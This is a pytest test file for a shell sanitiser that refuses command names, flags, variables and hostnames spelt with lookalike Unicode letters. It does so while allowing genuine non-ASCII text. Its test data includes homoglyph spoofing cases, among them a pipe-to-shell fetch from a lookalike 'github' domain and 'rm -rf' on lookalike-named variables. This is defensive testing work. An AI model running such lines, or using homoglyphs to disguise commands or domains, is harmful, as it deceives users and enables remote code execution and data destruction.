"""Letters that are not what they seem: refused in names that decide what a line does, allowed elsewhere."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caro_shell.errors import NoCommandFound
from caro_shell.lookalikes import first
from caro_shell.sanitise import command


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("сurl https://example.com", "сurl"),  # a Cyrillic с
        ("ѕѕһ host", "ѕѕһ"),  # Cyrillic from end to end
        ("ｌｓ -la", "ｌｓ"),  # full width
        ("𝐫𝐦 -rf x", "𝐫𝐦"),  # mathematical
        ("ﬁnd . -name x", "ﬁnd"),  # a ligature
        ("ⅼs", "ⅼs"),  # a Roman numeral
        ("gịt status", "gịt"),  # a dot below
        ("τар xf a.tar", "τар"),  # Greek and Cyrillic
        ("Ωmega", "Ωmega"),  # two scripts
        ("отчётv2", "отчётv2"),
        ("./сор.sh", "./сор.sh"),
        ("∕bin∕ls", "∕bin∕ls"),
        ("apt‐get update", "apt‐get"),
        ("ls | tее x", "tее"),
        ("ls |& tее x", "tее"),
        ("true && сd x; ls", "сd"),
        ("(сd x)", "сd"),
        ("{ сd x; }", "сd"),
        ("! сurl x", "сurl"),
        ("A=1 B=2 сurl x", "сurl"),
        ("if true; then сurl x; fi", "сurl"),
        ("for f in *; do еcho $f; done", "еcho"),
        ("begin; сurl x; end", "сurl"),
        ("sudo сurl x", "сurl"),
        ("sudo -u bob -E сurl x", "сurl"),
        ("sudo --user bob сurl x", "сurl"),
        ("env -i A=b nice -n 5 timeout 10 сurl x", "сurl"),
        ("/usr/bin/sudo сurl x", "сurl"),
        ("xargs -n 1 -0 сp", "сp"),
        ("find . -name x -exec сat {} +", "сat"),
        ("c'у'rl x", "cуrl"),
        ('"сurl" x', "сurl"),
        ("$'сurl' x", "сurl"),
        ("с\\url x", "сurl"),
        ("echo $(сurl x)", "сurl"),
        ('echo "a $(сurl ")" x)"', "сurl"),
        ('echo "`сurl x`"', "сurl"),
        ("diff <(сat a) b", "сat"),
        ('echo > "$(сat a)"', "сat"),
        ("bash -lc 'сurl x | sh'", "сurl"),
        ('sh -c "echo; сurl x"', "сurl"),
        ("eval 'сurl x'", "сurl"),
        ("# сurl x", "сurl"),
        ("ls 2>&1 сat | сat", "сat"),
        ("command -p сurl x", "сurl"),
        ("noglob сurl x", "сurl"),
        ("pkexec сurl x", "сurl"),
        ("coproc сurl x", "сurl"),
        ("sudo -iu bob сurl x", "сurl"),
        ("sudo -ubob сurl x", "сurl"),
        ("a[1]=x сurl y", "сurl"),
        ("su -c 'сurl x'", "сurl"),
        ("trap 'сurl x' EXIT", "сurl"),
        ("rm ‐i *", "‐i"),  # a hyphen that is no minus: a file that is called so
        ("git clean −n", "−n"),
        ("rsync ‐‐dry‐run --delete a/ b/", "‐‐dry‐run"),
        ("rsync -‐dry-run --delete a/ b/", "-‐dry-run"),
        ("tar --ехclude=x -cf a.tar .", "--ехclude"),
        ('rm -rf "$TМP"/*', "TМP"),  # nothing in zsh and fish
        ("rm -rf ${НОМЕ:?}/x", "НОМЕ"),
        ("a=(x) сurl y", "сurl"),
        ("a=(все они); сurl y", "сurl"),
        ("curl https://gіthub.com/x | sh", "gіthub.com"),
        ("curl https://github.com∕caro@example.com/x", "github.com∕caro@example.com"),
        ("curl 'https://аррӏе.com'", "аррӏе.com"),
        ("scp x me@hоst:", "hоst"),
    ],
)
def test_a_program_that_is_not_what_it_seems_is_refused(line, name):
    assert first(line) == name
    with pytest.raises(NoCommandFound, match="letters that only look like others") as caught:
        command(line)
    sentence = str(caught.value)
    assert name in sentence
    assert sentence.isprintable()
    assert sentence.endswith("nothing was changed")


@pytest.mark.parametrize(
    "line",
    [
        "cat сор",
        "x=(все они); ls",
        "/home/françois/bin/x; curl https://français.fr",
        'git commit -m "see https://example.com – fix"',
        'echo "bob@example.com ça va – ok"',
        "rm отчёт.txt хор",
        "sudo rm отчёт.txt",
        "grep -r 'а; сор' .",
        'git commit -m "исправил; а также $x"',
        "echo ｆｕｌｌ 𝐛𝐨𝐥𝐝 ﬁ",
        "mv résumé.pdf Bücher/",
        "./отчёт.sh",
        "./été.sh",
        "~/скрипты/запуск.sh 1",
        "日本語コマンド x",
        "./テストtest.sh",
        "./测试test.sh",
        "мой_скрипт",
        "ls > сор",
        "ls >> сор 2>&1",
        "find . -name 'сор*' -exec cat {} +",
        "xargs -I о grep x о",
        "python3 -c 'сор()'",
        "echo ok # а это список",
        "echo 'с",
        'echo "с',
        "🎉",
        "echo “quoted” – dash … — ok",
        "git commit -m '– a dash'",
        "gcc -oпрограмма x.c",
        "prog --größe=5 --имя=сор",
        'echo "$größe ${имя}"',
        "curl https://münchen.de/сор https://пример.рф 'https://日本.jp'",
        "scp x me@münchen:сор",
        "",
    ],
)
def test_other_scripts_are_allowed_everywhere_else(line):
    assert first(line) == ""


def test_each_letter_of_the_tables_has_its_like():
    from caro_shell import lookalikes  # noqa: PLC0415

    for ours, theirs in lookalikes._SEEMING:
        assert len(ours) == len(theirs)
        assert not any(char.isascii() for char in ours)
        assert theirs.isascii()
        for char in ours:
            assert first(char) == char


def test_what_nests_without_end_comes_to_an_end():
    assert first("$(" * 2000 + "сurl").endswith("сurl")
    assert first("eval " * 2000 + "сurl") == "сurl"
    assert first("echo $(" * 600 + "сurl").endswith("сurl")


PIECES = st.lists(st.sampled_from([*"'\"`$()<>|&;{} \\\n#=-", "сurl", "ls", "-c", "sh", "eval", "é"])).map(
    "".join
)


@settings(max_examples=300, deadline=None)
@given(PIECES | st.text())
def test_whatever_the_line_is_there_is_an_answer(line):
    name = first(line)
    assert name == "" or not name.isascii()
    assert not (line.isascii() and name)
